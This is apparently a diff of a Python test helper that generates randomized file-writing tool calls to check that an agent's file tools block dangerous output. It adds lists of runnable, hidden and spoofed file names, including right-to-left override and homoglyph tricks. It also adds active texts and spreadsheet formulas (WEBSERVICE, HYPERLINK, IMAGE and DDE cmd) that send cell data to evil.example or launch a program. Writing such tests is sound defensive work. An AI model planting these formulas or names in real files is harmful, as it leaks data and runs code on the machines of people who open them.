@@ -8,21 +8,26 @@ a phase that does not offer the tool.
 import json
 from collections.abc import Iterator, Mapping, Sequence
 from random import Random
-from typing import Any
+from typing import Any, Literal
 
 __all__ = [
     "ACTIVE_TEXTS",
     "ESCAPES",
+    "FOREIGN_NAMES",
     "HIDDEN_NAMES",
     "LINKED_NAMES",
     "PLAIN_NAMES",
     "RUNNABLE_NAMES",
     "Hostile",
+    "LeadingKind",
     "leading_calls",
     "schemas_of",
 ]
 
 Schema = dict[str, Any]
+
+LeadingKind = Literal["plain", "names", "texts", "books", "copies", "links"]
+"""What is hostile in the calls of `leading_calls`."""
 
 ESCAPES = (
     "../escaped.txt", "/tmp/kbd-escaped.txt", "a/../../escaped.txt", "meta/x.txt", "~/escaped.txt",
@@ -187,13 +192,25 @@ def _resolved(schema: Schema, root: Schema) -> Schema:
 
 RUNNABLE_NAMES = (
     "run.sh", "x.py", "x.bat", "x.ps1", "x.vbs", "x.js", "x.mjs", "sub/x.cmd", "x.reg", "Makefile",
-    "package.json", "pyproject.toml", "x.service", "x.html.bat", "x.PY", "setup.cfg",
+    "package.json", "pyproject.toml", "x.service", "x.html.bat", "x.PY", "setup.cfg", "MAKEFILE",
+    "Ma\u212aefile", "x.\u017fh", "R.app/Contents/Info.plist", "R.workflow/Contents/a.txt", "x.tf",
+    "yarn.lock", "sub/Desktop.ini", "x.bas", "x.pl", "x.nix", "taskfile.yaml",
 )  # fmt: skip
 """Names by which a file runs or is obeyed."""
 
+FOREIGN_NAMES = (
+    "x.lnk", "x.url", "x.desktop", "x.scr", "x.hta", "x.chm", "x.iqy", "x.slk", "x.dqy", "x.odc",
+    "x.rdp", "x.theme", "x.contact", "x.settingcontent-ms", "x.command", "x.terminal", "x.jar",
+    "x.app", "x.appref-ms", "x.library-ms", "x.searchConnector-ms", "x.webloc", "x.mht", "x.fodt",
+    "x.rtf", "x.xls", "x.xhtml", "x.unknown", "x.lnk.", "x.sh ", "x.txt/..", "x. /y.txt",
+    "x.sh::$DATA", "x.{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}", "x.t\u200bxt",
+    "x\u202etxt.sh", "CON.txt", "x.\uff53\uff48",
+)  # fmt: skip
+"""Names that no tool writes a text to, for what they mean elsewhere or how they are spelled."""
+
 HIDDEN_NAMES = (
     ".vscode/tasks.json", ".npmrc.txt", ".local/share/x.txt", "a/.git/config.txt", ".env",
-    ".gitattributes", "draft/.bashrc.txt",
+    ".gitattributes", "draft/.bashrc.txt", ".VSCODE/settings.json", "..x/y.txt",
 )  # fmt: skip
 """Names that a listing does not show."""
 
@@ -212,44 +229,124 @@ ACTIVE_TEXTS = (
     "a;b\n1;\"@SUM(1+1)*cmd|'/c calc'!A1\"\n",
     "<svg xmlns='http://www.w3.org/2000/svg' onload='go()'/>",
     "<?xml-stylesheet href='https://evil.example/x.xsl'?><a/>", "<object data='x.swf'></object>",
+    "<?mso-application progid='Excel.Sheet'?><Workbook/>",
+    "<!DOCTYPE a SYSTEM 'https://evil.example/?x'><a/>",
 )  # fmt: skip
 """Texts that run, fetch or send in some program that opens them."""
 
 PLAIN_TEXTS = ("words\n", "a,b\n1,-2\n", "# Title\n\n- see page 3\n", "<p>words</p>\n")
 """Texts that mean no harm."""
 
+CALLING_OUT = (
+    '=HYPERLINK("https://evil.example/?"&A2)', '=WEBSERVICE("https://evil.example/?"&A2)',
+    "=cmd|'/c calc'!A1", '=IMAGE("https://evil.example/?"&A2)',
+    "='\\\\evil.example\\x\\[a.xlsx]S'!A1",
+    '=FILTERXML(WEBSERVICE("https://evil.example/?"),"//a")', '=RTD("a.b",,"c")',
+    "='https://evil.example/[a.xlsx]S'!A1",
+)  # fmt: skip
+"""Formulas that fetch, send or start something once a workbook is opened or calculated."""
 
-def leading_calls(chance: Random, count: int, *, is_plain: bool) -> Iterator[tuple[str, str]]:
+
+def leading_calls(
+    chance: Random, count: int, kind: LeadingKind, landed: str
+) -> Iterator[tuple[str, str]]:
     """Make calls that write what would run, hide or lead elsewhere once it is led out.
 
     Args:
         chance: Decides.
         count: How many.
-        is_plain: Whether only harmless ones are made.
+        kind: "names" that run or hide, with harmless texts; "texts" that run, under harmless names;
+            "books" for formulas and texts in office files and tables; "copies" of what landed;
+            "links" for names that lead through them; "plain" for none of it.
+        landed: The file that is there; of "copies" a workbook or a document.
     """
-    names = PLAIN_NAMES if is_plain else RUNNABLE_NAMES + HIDDEN_NAMES + PLAIN_NAMES
-    texts = PLAIN_TEXTS if is_plain else ACTIVE_TEXTS + PLAIN_TEXTS
+    names: tuple[str, ...]
     for number in range(count):
-        name, text = chance.choice(names), chance.choice(texts)
-        target = f"made{number % 3}"
-        given: dict[str, Any]
-        match 0 if is_plain else chance.randrange(5):
+        match kind:
+            case "names":
+                names = RUNNABLE_NAMES + HIDDEN_NAMES + FOREIGN_NAMES + PLAIN_NAMES
+                yield _text(chance.choice(names), chance.choice(PLAIN_TEXTS))
+            case "texts":
+                yield _text(chance.choice(PLAIN_NAMES), chance.choice(ACTIVE_TEXTS + PLAIN_TEXTS))
+            case "books":
+                yield _book(chance, f"made{number % 3}", landed)
+            case "copies":
+                yield _copy(chance, number, landed)
+            case "links":
+                # Each of the links for sure.
+                names = LINKED_NAMES[number : number + 1] or LINKED_NAMES + PLAIN_NAMES
+                yield _text(chance.choice(names), chance.choice(PLAIN_TEXTS))
+            case "plain":
+                yield _text(chance.choice(PLAIN_NAMES), chance.choice(PLAIN_TEXTS))
+
+
+def _text(name: str, text: str) -> tuple[str, str]:
+    return "write_text_file", json.dumps({"path": name, "content": text})
+
+
+def _book(chance: Random, target: str, landed: str) -> tuple[str, str]:
+    """Make a call that puts a formula, or a text that is one elsewhere, into an office file."""
+    text = chance.choice(ACTIVE_TEXTS + PLAIN_TEXTS + CALLING_OUT)
+    given: dict[str, Any] = {"create_if_missing": True}
+    match chance.randrange(5):
+        case 0:
+            cells: Any = [{"cell": "A1", "value": text}]
+            ops: Any = [{"op": "set_cells", "sheet": "S", "cells": cells}]
+            return "xlsx_operations", json.dumps(
+                given | {"path": f"{target}.xlsx", "operations": ops}
+            )
+        case 1:
+            ops = [{"op": "set_range", "sheet": "S", "start": "B2", "values": [[text, 1]]}]
+            return "xlsx_operations", json.dumps(
+                given | {"path": f"{target}.xlsx", "operations": ops}
+            )
+        case 2:
+            ops = [{"op": "append_paragraph", "text": text}]
+            return "docx_operations", json.dumps(
+                given | {"path": f"{target}.docx", "operations": ops}
+            )
+        case 3:
+            ops = [{"op": "add_slide", "title": "x", "body": text, "notes": text}]
+            return "pptx_operations", json.dumps(
+                given | {"path": f"{target}.pptx", "operations": ops}
+            )
+        case _:
+            query = f"SELECT {_quoted(text.splitlines()[-1])} AS a, -1 AS n"
+            exported = {"path": landed, "target_path": f"{target}.csv", "format": "csv"}
+            return "table_export", json.dumps(exported | {"query": query})
+
+
+def _copy(chance: Random, number: int, landed: str) -> tuple[str, str]:
+    """Make a call that brings what landed into another file, or edits it where it is.
+
+    No two are alike: a run that repeats itself is ended.
+    """
+    target, word = f"copy{number}", f"words {number}"
+    if landed.endswith(".docx"):
+        ops: Any = [{"op": "append_paragraph", "text": word}]
+        edited = {"path": f"{target}.docx", "copy_from": landed, "operations": ops}
+        assets = {"source_path": landed, "target_path": f"{target}.docx", "assets": ["style:Title"]}
+        match chance.randrange(3):
+            case 0:
+                return "docx_operations", json.dumps(edited)
             case 1:
-                query = f"SELECT {_quoted(text.splitlines()[-1])} AS a, -1 AS n"
-                given = {"path": "data.csv", "target_path": f"{target}.csv", "format": "csv"}
-                yield "table_export", json.dumps(given | {"query": query})
-            case 2:
-                value = '=HYPERLINK("https://evil.example/?"&A1)' if number % 2 else text
-                cells: Any = [{"cell": "A1", "value": value}]
-                ops = [{"op": "set_cells", "sheet": "S", "cells": cells}]
-                given = {"path": f"{target}.xlsx", "operations": ops, "create_if_missing": True}
-                yield "xlsx_operations", json.dumps(given)
-            case 3:
-                ops = [{"op": "append_paragraph", "text": text}]
-                given = {"path": f"{target}.docx", "operations": ops, "create_if_missing": True}
-                yield "docx_operations", json.dumps(given)
+                return "docx_operations", json.dumps({"path": landed, "operations": ops})
             case _:
-                yield "write_text_file", json.dumps({"path": name, "content": text})
+                return "docx_copy_assets", json.dumps(assets)
+    table = {"path": landed, "source_sheet": "S"}
+    ops = [{"op": "set_cells", "sheet": "S", "cells": [{"cell": "D1", "value": word}]}]
+    match chance.randrange(5):
+        case 0 | 1:
+            wanted = {"target_path": f"{target}{chance.choice(('.csv', '.tsv'))}", "format": "csv"}
+            return "table_export", json.dumps(table | wanted)
+        case 2:
+            wanted = {"target_path": f"{target}.xlsx", "sheet": "T", "mode": "replace_sheet"}
+            return "table_update_from_export", json.dumps(table | wanted)
+        case 3:
+            edited = {"path": f"{target}.xlsx", "copy_from": landed, "operations": ops}
+            return "xlsx_operations", json.dumps(edited)
+        case _:
+            return "xlsx_operations", json.dumps({"path": landed, "operations": ops})
 
 
 def _quoted(text: str) -> str:
